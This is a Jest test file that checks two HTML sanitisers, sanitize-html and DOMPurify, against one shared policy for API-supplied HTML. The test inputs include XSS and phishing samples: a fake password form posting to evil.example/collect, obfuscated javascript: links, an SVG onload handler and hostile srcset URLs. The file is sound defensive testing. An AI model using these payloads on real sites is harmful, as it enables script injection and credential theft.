/**
 * @jest-environment jest-fixed-jsdom
 */
// DOMPurify, the browser half of the policy, needs a DOM.
import { sanitizeApiHtml } from './sanitize-at-build';
import { loadBrowserSanitizer, type SanitizeHtml } from './sanitize-in-browser';
import { canonicalHtml } from './testing/canonical-html';
import { RICH_TEXT_SAMPLES } from './testing/rich-text-samples';

// What the policy promises for API HTML, checked on both sanitisers.
let inBrowser: SanitizeHtml;
beforeAll(async () => {
  inBrowser = await loadBrowserSanitizer();
});

const SANITISERS: Array<[string, () => SanitizeHtml]> = [
  ['at build time (sanitize-html)', () => sanitizeApiHtml],
  ['in the browser (DOMPurify)', () => inBrowser],
];

describe.each(SANITISERS)('API HTML sanitised %s', (_where, sanitiser) => {
  const clean = (html: string) => canonicalHtml(sanitiser()(html));

  it('keeps the editors’ sample stories and action emails, adding only lazy images', () => {
    for (const sample of RICH_TEXT_SAMPLES) {
      const expected = canonicalHtml(
        sample
          .replace(/<img /g, '<img loading="lazy" ')
          .replace(/<b>(.*?)<\/b>/g, '<strong>$1</strong>')
          .replace(/<i>(.*?)<\/i>/g, '<em>$1</em>')
          .replace(
            /<a href="https:([^"]*)"/g,
            '<a href="https:$1" target="_blank" rel="noopener noreferrer"',
          ),
      );
      expect(clean(sample)).toBe(expected);
    }
  });

  it('drops scripts, styles, frames, forms and SVG with their content', () => {
    expect(
      clean(
        '<p>ok</p><script>steal()</script><style>p{}</style><iframe src="https://x.org">frame</iframe>' +
          '<svg onload="x()"><text>svg</text></svg><noscript>ns</noscript>' +
          '<form action="https://evil.example/collect"><label>Password <input type="password"></label><button>Sign in</button></form>',
      ),
    ).toBe('<p>ok</p>');
  });

  it('unwraps a page-covering box and keeps its text, without style, class or id', () => {
    expect(
      clean(
        '<div style="position:fixed;inset:0" class="x" id="main"><p onclick="x()">Read</p></div>',
      ),
    ).toBe('<p>Read</p>');
  });

  it('keeps only http, https, mailto, tel and same-site links', () => {
    expect(
      clean(
        '<a href="javascript:alert(1)">js</a><a href="JaVaScRiPt&colon;alert(1)">js2</a>' +
          '<a href="data:text/html,x">data</a><a href="//evil.example">pr</a><a href="\\\\evil.example">bs</a>' +
          '<a href="mailto:info@example.org">mail</a><a href="tel:+18015550100">tel</a><a href="/news/2025">news</a>',
      ),
    ).toBe(
      '<a>js</a><a>js2</a><a>data</a><a>pr</a><a>bs</a>' +
        '<a href="mailto:info@example.org">mail</a><a href="tel:+18015550100">tel</a><a href="/news/2025">news</a>',
    );
  });

  it('opens external links in a new tab without an opener, and leaves site links alone', () => {
    expect(
      clean(
        '<a href="https://le.utah.gov/" target="_self" rel="opener">bills</a><a href="/news/" target="_blank">news</a>',
      ),
    ).toBe(
      canonicalHtml(
        '<a href="https://le.utah.gov/" target="_blank" rel="noopener noreferrer">bills</a><a href="/news/">news</a>',
      ),
    );
  });

  it('drops images that are not absolute http(s) URLs', () => {
    expect(
      clean(
        '<img src="data:image/png;base64,AAAA"><img src="javascript:x()"><img src="//cdn.example.org/a.png">' +
          '<img src="/local.png"><img alt="no source"><img src="https://a.org/i.png" srcset="https://evil.example/i.png 2x">',
      ),
    ).toBe(canonicalHtml('<img src="https://a.org/i.png" loading="lazy">'));
  });

  it('maps the tags rich-text editors emit onto the kept ones', () => {
    expect(clean('<h1>Top</h1><p><b>b</b><i>i</i></p><div>loose <span>text</span></div>')).toBe(
      '<h2>Top</h2><p><strong>b</strong><em>i</em></p>loose text',
    );
  });
});
